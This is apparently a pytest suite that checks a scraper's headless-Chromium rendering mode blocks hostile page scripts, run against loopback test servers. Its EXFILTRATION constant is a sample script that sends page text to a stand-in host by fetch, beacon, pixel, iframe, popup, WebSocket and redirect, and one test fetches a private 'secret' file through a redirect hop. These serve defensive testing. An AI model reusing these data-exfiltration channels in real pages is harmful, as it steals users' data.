"""``--render``: pages built by scripts read in headless Chromium, every browser request guarded
(issue #15, layer 2). Real Chromium (/usr/bin/chromium), real loopback servers."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from flask import Flask
from pytest_httpserver import HTTPServer
from sqlalchemy import select

from models import Archive, Letter, PollLog, Snapshot
from models.db import session_factory
from scrapers.errors import RenderTimeout, TooLarge
from scrapers.render import RENDERED_CONTENT_TYPE, Renderer, preview_rendered
from tests.browser import require_chromium
from tests.editors import post
from tests.rendering import (
    FETCH_TABLE_PAGE,
    SIGNERS,
    STATED,
    loopback_settings,
    requested_paths,
    serve_letter,
)
from tracker.runtime import get_poller

pytestmark = pytest.mark.browser


@pytest.fixture(autouse=True)
def _chromium() -> None:
    require_chromium()


@pytest.fixture
def renderer() -> Iterator[Renderer]:
    pool = Renderer(loopback_settings())
    yield pool
    pool.close()


def _guarded_page(script: str) -> str:
    """A page that lists what its script managed to read, in a list the html reader finds."""
    return ("<!DOCTYPE html><html><head><title>Guard test</title></head><body>"
            "<h1>Signatories</h1><ul id='signers'><li>Ada Lovelace, Analytical Society</li>"
            "<li>Alan Turing, Bletchley Park</li><li>Grace Hopper, US Navy</li></ul>"
            f"<script>{script}</script></body></html>")


def _add(url: str, script: str) -> str:
    return script.replace("OTHER", url)


def test_preview_render_reads_fetch_built_table_exactly(runner, httpserver: HTTPServer) -> None:
    url = serve_letter(httpserver)
    result = runner.invoke(args=["preview", url, "--render", "--json"])
    assert result.exit_code == 0, result.output
    doc = json.loads(result.stdout)
    assert (doc["reported_count"], doc["listed_count"]) == (STATED, len(SIGNERS))
    assert [(s["name"], s.get("affiliation")) for s in doc["signers"]] == SIGNERS
    assert doc["content_type"] == RENDERED_CONTENT_TYPE
    text = runner.invoke(args=["preview", url, "--render"]).output
    assert "rendered in:    headless Chromium" in text and "headline count: 1,140" in text


def test_admin_preview_with_render_box_reads_fetch_built_table(editor,
                                                              httpserver: HTTPServer) -> None:
    form = {"url": serve_letter(httpserver), "kind": "auto", "title": "", "interval": "15m",
            "selector": "", "count_selector": "", "organizer": "", "render": "y",
            "preview": "Preview"}
    page = post(editor, "/admin/letters/new", form).get_data(as_text=True)
    assert "<dt>Headline count</dt><dd>1,140</dd>" in page
    assert "<dt>Listed signers</dt><dd>5</dd>" in page


def test_preview_without_render_never_takes_the_zero_counter(runner,
                                                             httpserver: HTTPServer) -> None:
    url = serve_letter(httpserver)
    result = runner.invoke(args=["preview", url, "--json"])
    doc = json.loads(result.stdout) if result.exit_code == 0 else None
    assert doc is None or doc["reported_count"] is None


def test_render_zero_counter_stays_no_count_when_data_is_refused(httpserver: HTTPServer) -> None:
    url = serve_letter(httpserver, robots="User-agent: *\nDisallow: /letter/signers.json\n")
    scraped = preview_rendered(url, settings=loopback_settings())
    assert scraped.result is not None and scraped.result.reported_count is None
    assert "/letter/signers.json" not in requested_paths(httpserver)


def test_render_refuses_loopback_request_to_another_host(httpserver: HTTPServer,
                                                         renderer: Renderer) -> None:
    other = httpserver.url_for("/secret.json").replace("localhost", "127.0.0.1")
    httpserver.expect_request("/secret.json").respond_with_json(["Mallory Secret"])
    script = ("fetch('OTHER').then(r => r.json()).then(d => { const li ="
              " document.createElement('li'); li.textContent = d[0];"
              " document.getElementById('signers').append(li); });")
    url = serve_letter(httpserver, _guarded_page(_add(other, script)))
    scraped = _scrape(renderer, url)
    assert "/secret.json" not in requested_paths(httpserver)
    assert b"Mallory" not in scraped.fetch.body and scraped.result.listed_count == 3


def test_render_refuses_redirect_to_private_address(httpserver: HTTPServer,
                                                    renderer: Renderer) -> None:
    secret = httpserver.url_for("/secret.json").replace("localhost", "127.0.0.1")
    httpserver.expect_request("/hop.json").respond_with_data("", status=302,
                                                             headers={"Location": secret})
    httpserver.expect_request("/secret.json").respond_with_json(["Mallory Secret"])
    script = ("fetch('/hop.json').then(r => r.json()).then(d => { const li ="
              " document.createElement('li'); li.textContent = d[0];"
              " document.getElementById('signers').append(li); });")
    url = serve_letter(httpserver, _guarded_page(script))
    scraped = _scrape(renderer, url)
    assert "/hop.json" in requested_paths(httpserver)
    assert "/secret.json" not in requested_paths(httpserver)
    assert b"Mallory" not in scraped.fetch.body


EXFILTRATION = """
const data = encodeURIComponent(document.body.innerText);
fetch('OTHER/collect', {method: 'POST', body: data}).catch(() => 0);
navigator.sendBeacon('OTHER/beacon', data);
new Image().src = 'OTHER/pixel.gif?d=' + data;
const frame = document.createElement('iframe'); frame.src = 'OTHER/frame?d=' + data;
document.body.append(frame);
window.open('OTHER/popup?d=' + data);
try { new WebSocket('OTHER/ws'.replace('http', 'ws')); } catch (e) {}
const css = document.createElement('link'); css.rel = 'stylesheet'; css.href = 'OTHER/style.css';
document.head.append(css);
setTimeout(() => { location.href = 'OTHER/away?d=' + data; }, 20);
fetch('OTHER/public.json').then(r => r.json()).then(d => { const li =
  document.createElement('li'); li.textContent = d[0];
  document.getElementById('signers').append(li); });
"""


def test_render_exfiltration_to_another_host_only_as_policy_permits(
        httpserver: HTTPServer) -> None:
    # 127.0.0.1 stands for another public host here: only the subresource policy stops it.
    other = httpserver.url_for("").rstrip("/").replace("localhost", "127.0.0.1")
    httpserver.expect_request("/public.json").respond_with_json(["Katherine Johnson, NASA"])
    url = serve_letter(httpserver, _guarded_page(_add(other, EXFILTRATION)))
    pool = Renderer(loopback_settings(private_other_hosts=True))
    try:
        scraped = _scrape(pool, url)
    finally:
        pool.close()
    paths = requested_paths(httpserver)
    assert not {"/collect", "/beacon", "/pixel.gif", "/frame", "/popup", "/ws",
                "/style.css", "/away"} & set(paths), paths
    assert "/public.json" in paths  # a GET fetch() to a public host is the page's own business
    assert scraped.result.listed_count == 4


def test_render_network_never_idle_is_a_timeout(httpserver: HTTPServer) -> None:
    httpserver.expect_request("/tick.json").respond_with_json([])
    script = "setInterval(() => fetch('/tick.json'), 100);"
    url = serve_letter(httpserver, _guarded_page(script))
    pool = Renderer(loopback_settings(timeout_s=2.0))
    try:
        with pytest.raises(RenderTimeout):
            _scrape(pool, url)
    finally:
        pool.close()


def test_render_total_size_cap_is_too_large(httpserver: HTTPServer) -> None:
    url = serve_letter(httpserver)
    pool = Renderer(loopback_settings(max_total_bytes=len(FETCH_TABLE_PAGE) + 100))
    try:
        with pytest.raises(TooLarge):
            _scrape(pool, url)
    finally:
        pool.close()


def test_poll_rendered_letter_archives_rendered_page_then_unchanged(
        app: Flask, runner, httpserver: HTTPServer) -> None:
    url = serve_letter(httpserver)
    assert runner.invoke(args=["letters", "add", url, "--render", "--slug", "river"]).exit_code == 0
    poller = get_poller(app)
    try:
        with session_factory(app)() as session:
            letter_id = session.scalar(select(Letter.id))
        first, second = poller.poll(letter_id), poller.poll(letter_id)
    finally:
        poller.renderer.close()
    assert (first.outcome, first.reported_count, first.listed_count) == ("first", STATED, 5)
    assert second.outcome == "unchanged"
    with session_factory(app)() as session:
        snapshot = session.scalars(select(Snapshot)).one()
        archive = session.get(Archive, snapshot.archive_sha256)
        outcomes = session.scalars(select(PollLog.outcome).order_by(PollLog.id)).all()
    assert archive.content_type == RENDERED_CONTENT_TYPE
    assert outcomes == ["first", "unchanged"]


def test_render_serialises_as_utf8_whatever_the_page_declared(httpserver: HTTPServer,
                                                              renderer: Renderer) -> None:
    page = FETCH_TABLE_PAGE.replace("Open letter on river", "Lettre ouverte \u00e9t\u00e9 river")
    httpserver.expect_request("/robots.txt").respond_with_data("", status=404)
    httpserver.expect_request("/letter/").respond_with_data(
        page.encode("cp1252"), content_type="text/html; charset=windows-1252")
    scraped = _scrape(renderer, httpserver.url_for("/letter/"))
    assert "Lettre ouverte \u00e9t\u00e9" in scraped.fetch.body.decode("utf-8")
    assert b'charset="windows-1252"' not in scraped.fetch.body


def _scrape(renderer: Renderer, url: str):
    from scrapers.fetch import Fetcher, build_client
    from scrapers.render import scrape_rendered

    settings = renderer.settings.fetch
    with build_client(settings) as client:
        return scrape_rendered(renderer, Fetcher(client, settings), url)
